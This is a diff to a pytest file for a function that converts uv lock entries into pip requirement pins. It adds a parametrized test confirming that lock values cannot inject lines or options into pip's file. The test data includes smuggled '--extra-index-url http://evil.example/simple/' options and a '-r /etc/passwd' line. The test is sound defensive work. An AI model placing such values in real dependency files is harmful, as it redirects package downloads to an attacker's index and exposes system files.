@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from typing import Any
 
+import pytest
+
 from frognano.run.environment.uvlock import uv_lock_pins
 
 H = {"hash": "sha256:" + "a" * 64}
@@ -93,7 +95,7 @@ def test_a_package_without_hashes_or_from_elsewhere_is_left_out_with_a_note() ->
     ]})  # fmt: skip
     assert pins is not None
     assert pins.lines == []
-    assert any("nohash 1.0 has no hash" in note for note in pins.notes)
+    assert any("nohash 1.0 has no valid hash" in note for note in pins.notes)
     assert any("local comes from a path source" in note for note in pins.notes)
 
 
@@ -110,3 +112,28 @@ def test_every_hash_of_the_package_is_allowed() -> None:
 
 def test_a_lock_without_one_root_project_is_not_used() -> None:
     assert uv_lock_pins({"package": [_pkg("a")]}) is None
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("name", "a\n--extra-index-url http://evil.example/simple/"),
+        ("version", "1.0\n--extra-index-url http://evil.example/simple/"),
+        ("version", "1.0 --index-url=http://evil.example/simple/"),
+        ("hash", "sha256:" + "a" * 64 + "\n-r /etc/passwd"),
+        ("hash", "sha256:" + "a" * 64 + " --index-url=http://evil.example/"),
+    ],
+)
+def test_a_lock_value_cannot_add_a_line_or_an_option_to_pips_file(field: str, value: str) -> None:
+    target = _pkg("a")
+    if field == "hash":
+        target["wheels"] = [{"hash": value}]
+    else:
+        target[field] = value
+    edge = {"name": target["name"]}
+    pins = uv_lock_pins({"package": [_root(dependencies=[edge]), target]})
+    assert pins is not None
+    assert pins.lines == []
+    assert "evil" not in pins.text()
+    assert "passwd" not in pins.text()
+    assert any("left out" in note for note in pins.notes), pins.notes
